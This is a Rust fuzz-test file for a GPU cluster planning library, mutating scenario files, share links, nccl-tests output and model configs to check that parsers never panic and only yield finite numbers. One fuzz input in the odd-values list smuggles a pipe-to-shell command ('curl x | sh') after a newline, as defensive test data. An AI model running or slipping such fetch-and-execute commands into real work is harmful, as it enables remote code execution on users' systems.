//! Fuzz targets, one per parser and entry point: share links (strict and lenient),
//! scenario files → validate → evaluate → exports, the mesh search, reports →
//! calibrate, nccl-tests text and JSON, Hugging Face configs, the serving validation dataset.
//!
//! A proptest harness rather than `cargo fuzz`: it runs on stable Rust inside
//! `cargo test` (so `cargo xtask test` runs every target briefly on every change),
//! shrinks a failure to a small input, and proptest stores each failure's seed in
//! `fuzz.proptest-regressions`, which is replayed first on every later run. Inputs
//! are structured mutations of the repository's fixtures: JSON values swapped for
//! extreme numbers, odd strings and wrong types, keys dropped or added; link
//! parameters replaced, duplicated and mangled; text lines cut, repeated and edited.
//!
//! Each target checks the same contract: no panic (tests build in debug, so an
//! integer overflow panics too), every refusal names a field, and whatever is
//! accepted evaluates to finite numbers only.
//!
//! Cases per target: `MESHPLAN_FUZZ_CASES` (default 200, a few seconds each in a
//! debug build). A long run: `MESHPLAN_FUZZ_CASES=20000 cargo test --release -p
//! planner-core --test fuzz -- --nocapture`; each target prints its inputs and time.

use std::time::Instant;

use planner_core::edges::calibration_fit::{calibrate, samples_from_nccl, samples_from_report};
use planner_core::edges::export::{exports, notes_markdown};
use planner_core::edges::hf_config::import_hf_config;
use planner_core::edges::link::{decode, decode_lenient, encode};
use planner_core::edges::nccl_tests::{parse as parse_nccl, parse_json, parse_text};
use planner_core::edges::report::parse_report;
use planner_core::evaluate::evaluate;
use planner_core::input::hardware::{gpu_preset, Cluster};
use planner_core::input::precision::ComputeDtype;
use planner_core::input::scenario::{ModelChoice, Scenario};
use planner_core::resolve::presets::{
    article_70b_scenario, article_mesh_scenario, default_scenario,
};
use planner_core::search::mesh::{search_scenario, SearchSpace};
use planner_core::time::collectives::CommModel;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::Value;

thread_local! {
    /// Inputs of the running target that were accepted and evaluated (each test has its thread).
    static EVALUATED: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
}

fn evaluated() {
    EVALUATED.with(|c| c.set(c.get() + 1));
}

fn cases() -> u32 {
    std::env::var("MESHPLAN_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200)
}

/// Runs `check` on `cases()` inputs from `strategy`, printing the count and time.
fn fuzz<S: Strategy>(name: &str, strategy: S, check: impl Fn(S::Value))
where
    S::Value: std::fmt::Debug,
{
    fuzz_n(name, cases(), strategy, check)
}

fn fuzz_n<S: Strategy>(name: &str, n: u32, strategy: S, check: impl Fn(S::Value))
where
    S::Value: std::fmt::Debug,
{
    let mut runner = TestRunner::new(Config {
        cases: n,
        failure_persistence: Some(Box::new(
            proptest::test_runner::FileFailurePersistence::WithSource("regressions"),
        )),
        source_file: Some(file!()),
        ..Config::default()
    });
    EVALUATED.with(|c| c.set(0));
    let started = Instant::now();
    let result = runner.run(&strategy, |input| {
        check(input);
        Ok(())
    });
    eprintln!(
        "fuzz {name}: {n} inputs in {:.2} s, {} accepted and evaluated",
        started.elapsed().as_secs_f64(),
        EVALUATED.with(|c| c.get())
    );
    if let Err(e) = result {
        panic!("fuzz {name}: {e}");
    }
}

// ---- the contract every accepted input must meet ----

/// Every float anywhere in `value` is finite.
fn assert_finite<T: serde::Serialize>(what: &str, value: &T) {
    fn walk(v: &serde_value::Value, path: &mut String, what: &str) {
        use serde_value::Value as V;
        match v {
            V::F32(x) => assert!(x.is_finite(), "{what}: {path} = {x}"),
            V::F64(x) => assert!(x.is_finite(), "{what}: {path} = {x}"),
            V::Option(Some(b)) | V::Newtype(b) => walk(b, path, what),
            V::Seq(items) => {
                for (i, item) in items.iter().enumerate() {
                    let len = path.len();
                    path.push_str(&format!("[{i}]"));
                    walk(item, path, what);
                    path.truncate(len);
                }
            }
            V::Map(m) => {
                for (k, item) in m {
                    let len = path.len();
                    let key = match k {
                        V::String(s) => s.clone(),
                        other => format!("{other:?}"),
                    };
                    path.push('.');
                    path.push_str(&key);
                    walk(item, path, what);
                    path.truncate(len);
                }
            }
            _ => {}
        }
    }
    let v = serde_value::to_value(value).expect("serialises");
    walk(&v, &mut String::new(), what);
}

/// An accepted scenario: evaluates, to finite numbers, and exports without panic;
/// its link decodes back to it.
fn accepted(s: &Scenario) {
    evaluated();
    let e = evaluate(s).unwrap_or_else(|e| panic!("validated but not evaluable: {e}"));
    assert_finite("evaluation", &e);
    let list = exports(s, &e.model);
    let _ = notes_markdown(&list);
    assert_eq!(decode(&encode(s)).as_ref(), Ok(s), "link round trip");
}

fn refused(errors: &[planner_core::resolve::validate::FieldError]) {
    assert!(!errors.is_empty());
    for e in errors {
        assert!(!e.field.is_empty(), "an error names no field: {e:?}");
        assert!(!e.message.chars().any(char::is_control), "{e:?}");
    }
}

// ---- structured mutations ----

/// Values that break parsers and arithmetic.
fn odd_json() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        Just(Value::Bool(true)),
        Just(0.into()),
        Just((-1).into()),
        Just(1.into()),
        Just(8.5.into()),
        Just(1e308.into()),
        Just((-1e308).into()),
        Just(5e-324.into()),
        Just(u32::MAX.into()),
        Just(2_147_483_648u64.into()),
        Just(4_294_967_296u64.into()),
        Just(u64::MAX.into()),
        Just(Value::Array(vec![])),
        Just(Value::Object(Default::default())),
        Just("".into()),
        Just("evil\ncurl x | sh".into()),
        Just("a".repeat(5000).into()),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("JSON numbers are finite", |x| x.is_finite())
            .prop_map(Value::from),
        "\\PC{0,12}".prop_map(Value::from),
    ]
}

/// One change to a JSON document, at the leaf (or object) picked by `at`.
#[derive(Clone, Debug)]
enum JsonEdit {
    Replace(usize, Value),
    Remove(usize),
    AddKey(usize, String, Value),
    Scale(usize, f64),
}

fn json_edit() -> impl Strategy<Value = JsonEdit> {
    prop_oneof![
        4 => (any::<usize>(), odd_json()).prop_map(|(i, v)| JsonEdit::Replace(i, v)),
        1 => any::<usize>().prop_map(JsonEdit::Remove),
        1 => (any::<usize>(), "[a-z_]{1,8}", odd_json()).prop_map(|(i, k, v)| JsonEdit::AddKey(i, k, v)),
        3 => (any::<usize>(), prop_oneof![Just(0.0), Just(-1.0), Just(2.0), Just(1e3), Just(1e-3), Just(1e9), Just(0.5)])
            .prop_map(|(i, f)| JsonEdit::Scale(i, f)),
    ]
}

fn count_nodes(v: &Value) -> usize {
    1 + match v {
        Value::Array(a) => a.iter().map(count_nodes).sum(),
        Value::Object(o) => o.values().map(count_nodes).sum(),
        _ => 0,
    }
}

/// Runs `f` on the `n`-th node in pre-order; false when there are fewer nodes.
fn with_node(v: &mut Value, n: &mut usize, f: &mut dyn FnMut(&mut Value)) -> bool {
    if *n == 0 {
        f(v);
        return true;
    }
    *n -= 1;
    match v {
        Value::Array(a) => a.iter_mut().any(|c| with_node(c, n, f)),
        Value::Object(o) => o.values_mut().any(|c| with_node(c, n, f)),
        _ => false,
    }
}

fn apply(doc: &mut Value, edit: &JsonEdit) {
    let total = count_nodes(doc);
    // Never the root: node 1.. in pre-order.
    let pick = |i: usize| 1 + i % total.saturating_sub(1).max(1);
    match edit {
        JsonEdit::Replace(i, v) => {
            with_node(doc, &mut pick(*i), &mut |t| *t = v.clone());
        }
        JsonEdit::Scale(i, f) => {
            with_node(doc, &mut pick(*i), &mut |t| {
                if let Some(x) = t.as_f64() {
                    let y = x * f;
                    *t = if y.fract() == 0.0 && y.abs() < 1e15 && t.is_u64() && y >= 0.0 {
                        Value::from(y as u64)
                    } else {
                        Value::from(y)
                    };
                }
            });
        }
        JsonEdit::Remove(i) => {
            with_node(doc, &mut pick(*i), &mut |t| {
                if let Value::Object(o) = t {
                    if let Some(k) = o.keys().next().cloned() {
                        o.remove(&k);
                    }
                }
            });
        }
        JsonEdit::AddKey(i, k, v) => {
            with_node(doc, &mut pick(*i), &mut |t| {
                if let Value::Object(o) = t {
                    o.insert(k.clone(), v.clone());
                }
            });
        }
    }
}

fn mutated_json(seeds: Vec<Value>) -> impl Strategy<Value = String> {
    (
        proptest::sample::select(seeds),
        proptest::collection::vec(json_edit(), 0..4),
    )
        .prop_map(|(mut doc, edits)| {
            for e in &edits {
                apply(&mut doc, e);
            }
            doc.to_string()
        })
}

fn seed_scenarios() -> Vec<Scenario> {
    let mut moe = default_scenario();
    moe.model = ModelChoice::Preset("deepseek-v3".into());
    let mut mixtral = article_mesh_scenario();
    mixtral.model = ModelChoice::Preset("mixtral-8x7b".into());
    mixtral.layout.ep = 4;
    // Fine-tuning modes on MoE and MLA shapes (crate::finetune).
    let mut qlora_mixtral = mixtral.clone();
    qlora_mixtral.training.finetune.mode = planner_core::input::finetune::FineTuneMode::Qlora;
    qlora_mixtral.training.finetune.lora.targets.down = true;
    let mut lora_mla = moe.clone();
    lora_mla.training.finetune.mode = planner_core::input::finetune::FineTuneMode::Lora;
    // Sliding-window layers as custom shapes, so the fuzzer edits `window` and `full_every`.
    let mut windowed = default_scenario();
    windowed.model = ModelChoice::Custom(
        planner_core::resolve::presets::model_preset("gemma-2-9b").expect("preset"),
    );
    vec![
        windowed,
        qlora_mixtral,
        lora_mla,
        default_scenario(),
        article_mesh_scenario(),
        article_70b_scenario(),
        moe,
        mixtral,
    ]
}

// ---- link targets ----

fn seed_links() -> Vec<String> {
    let mut links: Vec<String> = seed_scenarios().iter().map(encode).collect();
    links.push("v=1&tp=8&dp=1&pp=2&sched=interleaved&vpp=2&gbs=2147483648".into());
    links.push("v=1&cal=all_reduce.i:0.000003:300000000000:4:0.01".into());
    // Uneven stages: Llama 3 405B's PP 16 split, and an explicit list.
    let mut uneven = article_mesh_scenario();
    uneven.model = ModelChoice::Preset("llama-3.1-405b".into());
    uneven.layout.pp = 16;
    uneven.layout.stage_split = planner_core::input::layout::StageSplit::FirstLast {
        first: Some(7),
        last: Some(7),
    };
    links.push(encode(&uneven));
    uneven.layout.stage_split = planner_core::input::layout::StageSplit::Chunks(vec![8; 16]);
    links.push(encode(&uneven));
    links
}

/// One edit of a link: a parameter's value replaced, a parameter duplicated or
/// dropped, raw bytes inserted.
#[derive(Clone, Debug)]
enum LinkEdit {
    Value(usize, String),
    Duplicate(usize),
    Drop(usize),
    Insert(String),
    Append(String, String),
}

fn odd_text() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("0".to_string()),
        Just("-1".to_string()),
        Just("1e308".to_string()),
        Just("5e-324".to_string()),
        Just("NaN".to_string()),
        Just("inf".to_string()),
        Just("4294967295".to_string()),
        Just("2147483648".to_string()),
        Just("18446744073709551616".to_string()),
        Just("10000".to_string()),
        Just("%0A%0D".to_string()),
        Just("%".to_string()),
        Just("%FF%FE".to_string()),
        Just("interleaved".to_string()),
        "[0-9]{1,12}",
        "\\PC{0,10}",
    ]
}

fn link_edit() -> impl Strategy<Value = LinkEdit> {
    let keys = planner_core::edges::link::parameter_names();
    prop_oneof![
        4 => (any::<usize>(), odd_text()).prop_map(|(i, v)| LinkEdit::Value(i, v)),
        1 => any::<usize>().prop_map(LinkEdit::Duplicate),
        1 => any::<usize>().prop_map(LinkEdit::Drop),
        1 => (any::<usize>(), "[&=%?#a-z0-9]{0,6}").prop_map(|(_, s)| LinkEdit::Insert(s)),
        3 => (proptest::sample::select(keys), odd_text())
            .prop_map(|(k, v)| LinkEdit::Append(k.to_string(), v)),
    ]
}

fn mutated_link() -> impl Strategy<Value = String> {
    (
        proptest::sample::select(seed_links()),
        proptest::collection::vec(link_edit(), 0..5),
    )
        .prop_map(|(link, edits)| {
            let mut pairs: Vec<String> = link.split('&').map(str::to_string).collect();
            let mut raw = String::new();
            for e in edits {
                let n = pairs.len().max(1);
                match e {
                    LinkEdit::Value(i, v) => {
                        if let Some(p) = pairs.get_mut(i % n) {
                            let k = p.split('=').next().unwrap_or("").to_string();
                            *p = format!("{k}={v}");
                        }
                    }
                    LinkEdit::Duplicate(i) => {
                        if let Some(p) = pairs.get(i % n).cloned() {
                            pairs.push(p);
                        }
                    }
                    LinkEdit::Drop(i) => {
                        if !pairs.is_empty() {
                            pairs.remove(i % n);
                        }
                    }
                    LinkEdit::Insert(s) => raw.push_str(&s),
                    LinkEdit::Append(k, v) => pairs.push(format!("{k}={v}")),
                }
            }
            format!("{}{raw}", pairs.join("&"))
        })
}

#[test]
fn fuzz_link_strict() {
    fuzz("link strict", mutated_link(), |q| match decode(&q) {
        Ok(s) => accepted(&s),
        Err(errors) => refused(&errors),
    });
}

#[test]
fn fuzz_link_lenient() {
    fuzz("link lenient", mutated_link(), |q| {
        let (s, errors) = decode_lenient(&q);
        for e in &errors {
            assert!(!e.field.is_empty(), "{e:?}");
        }
        // Lenient decoding may keep a consistency problem (reported); rules aside,
        // what it returns validates and evaluates.
        if s.validate().is_ok() {
            evaluated();
            let e = evaluate(&s).expect("evaluates");
            assert_finite("evaluation", &e);
        }
    });
}

/// Link parameters at the ends of their valid ranges: the worst inputs validation lets
/// through, which must still evaluate to finite numbers.
fn extreme_pairs() -> Vec<(&'static str, &'static str)> {
    vec![
        ("gpus", "1000000"),
        ("gpus", "1"),
        ("gpus", "8"),
        ("seq", "10485760"),
        ("seq", "1"),
        ("gbs", "4294967295"),
        ("gbs", "1"),
        ("dp", "1"),
        ("tp", "1"),
        ("pp", "80"),
        ("pp", "2"),
        ("cp", "1024"),
        ("mbs", "1"),
        ("mbs", "4096"),
        ("sched", "interleaved"),
        ("sched", "zb"),
        ("sched", "gpipe"),
        ("vpp", "40"),
        ("zero", "3"),
        ("zero", "0"),
        ("recompute", "full"),
        ("recompute", "selective"),
        ("weight_bytes", "16"),
        ("weight_bytes", "0.5"),
        ("master_bytes", "0"),
        ("optim_bytes", "16"),
        ("act_bytes", "8"),
        ("gpu_mem", "100000000"),
        ("gpu_mem", "100000000000000"),
        ("gpu_hbm", "1000000000"),
        ("gpu_bf16", "1000000000"),
        ("gpu_bf16", "1000000000000000000"),
        ("nvlink_bw", "1000000"),
        ("net_bw", "100000000000000"),
        ("nvlink_lat", "1"),
        ("net_lat", "0.000000001"),
        ("cuda_ctx", "100000000000000"),
        ("bucket", "0"),
        ("frag", "0.999"),
        ("usable", "0.000001"),
        ("serve_ctx", "10485760"),
        ("serve_conc", "1000000"),
        ("serve_tp", "1"),
        ("serve_pp", "1000"),
        ("serve_util", "1"),
        ("serve_ws", "100000000000000"),
        ("serve_engine", "sglang"),
        ("serve_memfrac", "0.000001"),
        (
            "serve_profile",
            "16777216,16777216,100000000000000,100000000000000",
        ),
        ("serve_profile", "1,1,0,0"),
        ("gpn", "1"),
        ("gpn", "1024"),
        ("split", "fl:0:10000"),
        ("split", "fl:-:1"),
        ("split", "ae:1:1"),
        ("split", "tt:10000:10000"),
        ("split", "c:0.0.10000.0"),
    ]
}

#[test]
fn fuzz_valid_extremes() {
    let seeds = seed_links();
    let strategy = (
        proptest::sample::select(seeds),
        proptest::sample::subsequence(extreme_pairs(), 0..8),
    )
        .prop_map(|(link, pairs)| {
            let mut q = link;
            let mut used: Vec<&str> = Vec::new();
            for (k, v) in pairs {
                if used.contains(&k) || q.split('&').any(|p| p.split('=').next() == Some(k)) {
                    continue;
                }
                used.push(k);
                q.push_str(&format!("&{k}={v}"));
            }
            q
        });
    fuzz("valid extremes", strategy, |q| {
        let (s, _) = decode_lenient(&q);
        if s.validate().is_ok() {
            evaluated();
            let e = evaluate(&s).expect("evaluates");
            assert_finite("evaluation", &e);
            let _ = exports(&s, &e.model);
        }
    });
}

// ---- scenario files ----

#[test]
fn fuzz_scenario_file() {
    let mut seeds: Vec<Value> = seed_scenarios()
        .iter()
        .map(|s| serde_json::to_value(s).expect("serialises"))
        .collect();
    seeds.push(
        serde_json::from_str(include_str!("../../../examples/article-70b-mesh.json"))
            .expect("example"),
    );
    fuzz(
        "scenario file",
        mutated_json(seeds),
        |text| match Scenario::from_json(&text) {
            Ok(s) => accepted(&s),
            Err(errors) => refused(&errors),
        },
    );
}

#[test]
fn fuzz_search() {
    // Valid scenarios only (the search runs on what validation let through), on
    // clusters up to 1,024 GPUs, a twentieth of the cases: a debug build searches slowly.
    let seeds: Vec<Value> = seed_scenarios()
        .iter()
        .map(|s| serde_json::to_value(s).expect("serialises"))
        .collect();
    let strategy = mutated_json(seeds).prop_filter_map("valid, ≤ 1024 GPUs", |text| {
        Scenario::from_json(&text)
            .ok()
            .filter(|s| s.cluster.world_size() <= 1024)
    });
    let space = SearchSpace {
        max_results: 20,
        max_rejected: 100,
        ..SearchSpace::default()
    };
    fuzz_n("search", cases().div_ceil(20), strategy, |s| {
        evaluated();
        let r = search_scenario(&s, &space, Default::default(), None).expect("model resolves");
        assert_finite("search", &r);
        assert!(r.feasible.len() <= space.max_results);
    });
}

// ---- reports and calibration ----

#[test]
fn fuzz_report_calibrate() {
    let seed: Value = serde_json::from_str(include_str!("../fixtures/report/synthetic-2gpu.json"))
        .expect("fixture");
    let Some(gpu) = gpu_preset("h100-sxm") else {
        panic!("preset")
    };
    let assumed = CommModel::assumed(&Cluster::of(gpu.clone(), 1));
    fuzz("report → calibrate", mutated_json(vec![seed]), |text| {
        let Ok(report) = parse_report(&text) else {
            return;
        };
        evaluated();
        let (comm, gemm) = samples_from_report(&report, ComputeDtype::Bf16);
        match calibrate(&comm, &gemm, &assumed, gpu.bf16_flops_per_s).check() {
            Ok(()) => {}
            Err(why) => assert!(why.contains(':'), "names no field: {why}"),
        }
    });
}

/// nccl-tests `-J` output of a 2-rank all_gather_perf (shared with tests/calibration.rs).
const NCCL_JSON: &str = include_str!("../fixtures/nccl/all_gather_perf.json");

const NCCL_TEXT: &str = "# nccl-tests version 2.17.1 nccl-headers=22703 nccl-library=22703
# Collective test starting: all_reduce_perf
# nThread 1 nGpus 1 minBytes 1024 maxBytes 1073741824 step: 4(factor) warmup iters: 5 iters: 20 agg iters: 1 validation: 1 graph: 0 unalign: 0
#
# Using devices
#  Rank  0 Group  0 Pid   1000 on     node-a device  0 [0000:18:00] NVIDIA H100 80GB HBM3
#  Rank  1 Group  0 Pid   1001 on     node-a device  1 [0000:18:00] NVIDIA H100 80GB HBM3
#  Rank  2 Group  0 Pid   1002 on     node-b device  0 [0000:18:00] NVIDIA H100 80GB HBM3
#  Rank  3 Group  0 Pid   1003 on     node-b device  1 [0000:18:00] NVIDIA H100 80GB HBM3
#
#                                                              out-of-place                       in-place
#       size         count      type   redop    root     time   algbw   busbw #wrong     time   algbw   busbw #wrong
#        (B)    (elements)                               (us)  (GB/s)  (GB/s)            (us)  (GB/s)  (GB/s)
        1024           512  bfloat16     sum      -1    12.10    0.08    0.13      0    12.00    0.09    0.13      0
     1048576        524288  bfloat16     sum      -1    30.50   34.38   51.57      0    29.90   35.07   52.60      0
  1073741824     536870912  bfloat16     sum      -1  5500.00  195.22  292.83      0  5490.00  195.58  293.37      0
# Out of bounds values : 0 OK
# Avg bus bandwidth    : 123.4
#
# Collective test concluded: all_reduce_perf
";

/// Line edits of a text table: a line dropped, repeated, or a token replaced.
fn mutated_text() -> impl Strategy<Value = String> {
    (proptest::collection::vec(
        (any::<usize>(), any::<usize>(), 0u8..4, odd_text()),
        0..5,
    ),)
        .prop_map(|(edits,)| {
            let mut lines: Vec<String> = NCCL_TEXT.lines().map(str::to_string).collect();
            for (l, t, kind, text) in edits {
                let n = lines.len().max(1);
                let i = l % n;
                match kind {
                    0 if !lines.is_empty() => {
                        lines.remove(i);
                    }
                    1 => {
                        let line = lines.get(i).cloned().unwrap_or_default();
                        lines.insert(i, line);
                    }
                    2 => {
                        if let Some(line) = lines.get_mut(i) {
                            let mut tokens: Vec<String> =
                                line.split_whitespace().map(str::to_string).collect();
                            if !tokens.is_empty() {
                                let k = t % tokens.len();
                                tokens[k] = text;
                            }
                            *line = tokens.join("  ");
                        }
                    }
                    _ => lines.insert(i, text),
                }
            }
            lines.join("\n")
        })
}

fn nccl_contract(
    run: Result<
        planner_core::edges::nccl_tests::NcclRun,
        planner_core::edges::nccl_tests::NcclParseError,
    >,
) {
    let Ok(run) = run else { return };
    let Ok(samples) = samples_from_nccl(&run, None, None, None) else {
        return;
    };
    evaluated();
    let Some(gpu) = gpu_preset("h100-sxm") else {
        panic!("preset")
    };
    let assumed = CommModel::assumed(&Cluster::of(gpu.clone(), 1));
    let summary = calibrate(&samples, &[], &assumed, gpu.bf16_flops_per_s);
    if summary.check().is_ok() {
        let back = planner_core::input::calibration::CalibrationSummary::from_compact(
            &summary.to_compact(),
        );
        assert!(
            back.is_ok(),
            "a checked summary's compact form reads back: {back:?}"
        );
    }
}

#[test]
fn fuzz_nccl_tests_text() {
    fuzz("nccl-tests text", mutated_text(), |text| {
        nccl_contract(parse_text(&text));
        let _ = parse_nccl(&text);
    });
}

#[test]
fn fuzz_nccl_tests_json() {
    let seed: Value = serde_json::from_str(NCCL_JSON).expect("seed");
    fuzz("nccl-tests JSON", mutated_json(vec![seed]), |text| {
        nccl_contract(parse_json(&text));
    });
}

// ---- Hugging Face configs ----

#[test]
fn fuzz_hf_config() {
    let seeds: Vec<Value> = [
        include_str!("../fixtures/hf/llama-3.1-8b.json"),
        include_str!("../fixtures/hf/deepseek-v3.json"),
        include_str!("../fixtures/hf/mixtral-8x7b.json"),
        include_str!("../fixtures/hf/qwen3-30b-a3b.json"),
        include_str!("../fixtures/hf/qwen2.5-72b.json"),
    ]
    .iter()
    .map(|t| serde_json::from_str(t).expect("fixture"))
    .collect();
    fuzz("HF config", mutated_json(seeds), |text| {
        let Ok(spec) = import_hf_config(&text) else {
            return;
        };
        let mut s = default_scenario();
        s.model = ModelChoice::Custom(spec);
        s.layout = planner_core::input::layout::Layout {
            dp: 64,
            tp: 1,
            pp: 1,
            cp: 1,
            ep: 1,
            expert_tp: 1,
            ..s.layout
        };
        if s.validate().is_ok() {
            evaluated();
            let e = evaluate(&s).expect("evaluates");
            assert_finite("evaluation", &e);
        }
    });
}

// ---- the serving validation dataset ----

#[test]
fn fuzz_serving_dataset() {
    use planner_core::edges::serving_validation::{
        parse_serving_runs, validate_serving_runs, SERVING_RUNS_JSON,
    };
    let rows: Vec<Value> = serde_json::from_str(SERVING_RUNS_JSON).expect("dataset");
    // A static batch, a maximum-load row and a concurrency row with TTFT, TPOT and throughput.
    let seeds: Vec<Value> = [
        "trt09-a100-llama2-7b-tp1-bs256-128-128",
        "trt10-h100-llama33-70b-tp2-1000-1000",
        "nim180-llama33-70b-h100-tp2-5000-500-c5",
    ]
    .iter()
    .map(|id| {
        let row = rows.iter().find(|r| r["id"] == *id).expect("seed row");
        Value::Array(vec![row.clone()])
    })
    .collect();
    fuzz(
        "serving dataset",
        mutated_json(seeds),
        |text| match parse_serving_runs(&text) {
            Err(e) => assert!(!e.field.is_empty(), "a refusal names its field"),
            Ok(runs) => {
                evaluated();
                let report = validate_serving_runs(&runs);
                assert_eq!(report.rows.len(), runs.len());
                assert_finite("serving validation", &report);
            }
        },
    );
}

// ---- the mesh explorer's worker protocol ----

#[test]
fn fuzz_mesh_page() {
    use planner_core::edges::mesh_page::{answer, MeshReply, MeshRequest};
    // The worker's request: a mutated link either searches (every number finite) or fails
    // naming why; clusters up to 512 GPUs, a twentieth of the cases (a debug build searches
    // slowly).
    let strategy = mutated_link().prop_filter("≤ 512 GPUs", |q| {
        decode_lenient(q).0.cluster.world_size() <= 512
    });
    fuzz_n("mesh request", cases().div_ceil(20), strategy, |query| {
        let request = MeshRequest { seq: 1, query };
        let text = request.to_text();
        assert_eq!(MeshRequest::from_text(&text), Some(Ok(request.clone())));
        match answer(&request, &|| 0.0, &mut |_| {}) {
            MeshReply::Done(page) => {
                evaluated();
                assert_finite("mesh search", &page.result);
                let reply = MeshReply::Done(page);
                assert_eq!(MeshReply::from_text(reply.to_text()), Ok(reply));
            }
            MeshReply::Failed { seq, message } => {
                assert_eq!(seq, 1);
                assert!(!message.is_empty());
            }
            other => panic!("a last message that is progress: {other:?}"),
        }
    });
    // The page's reader: a damaged reply is read or refused, never a panic.
    let seed = {
        let mut key = planner_core::resolve::presets::article_mesh_scenario();
        key.layout = Default::default();
        let request = MeshRequest {
            seq: 2,
            query: planner_core::edges::link::encode(&key),
        };
        answer(&request, &|| 0.0, &mut |_| {}).to_text()
    };
    let edits = proptest::collection::vec((any::<usize>(), "\\PC{0,3}|\u{1e}|\u{1f}|\\\\"), 1..6);
    fuzz("mesh reply", (edits, any::<usize>()), |(edits, cut)| {
        let mut text = seed.clone();
        for (at, with) in edits {
            let mut at = at % text.len().max(1);
            while !text.is_char_boundary(at) {
                at -= 1;
            }
            let mut end = (at + 1).min(text.len());
            while !text.is_char_boundary(end) {
                end += 1;
            }
            text.replace_range(at..end, &with);
        }
        let mut cut = text.len() - cut % (text.len() / 4 + 1);
        while !text.is_char_boundary(cut) {
            cut -= 1;
        }
        text.truncate(cut);
        if MeshReply::from_text(text).is_ok() {
            evaluated();
        }
    });
    // The bytes the worker transfers: any byte anywhere (UTF-8 or not), cut anywhere, is
    // read or refused, never a panic.
    let bytes = proptest::collection::vec((any::<usize>(), any::<u8>()), 1..6);
    fuzz(
        "mesh reply bytes",
        (bytes, any::<usize>()),
        |(edits, cut)| {
            let mut b = seed.clone().into_bytes();
            for (at, with) in edits {
                let at = at % b.len().max(1);
                b[at] = with;
            }
            b.truncate(b.len() - cut % (b.len() / 4 + 1));
            if MeshReply::from_bytes(b).is_ok() {
                evaluated();
            }
        },
    );
}
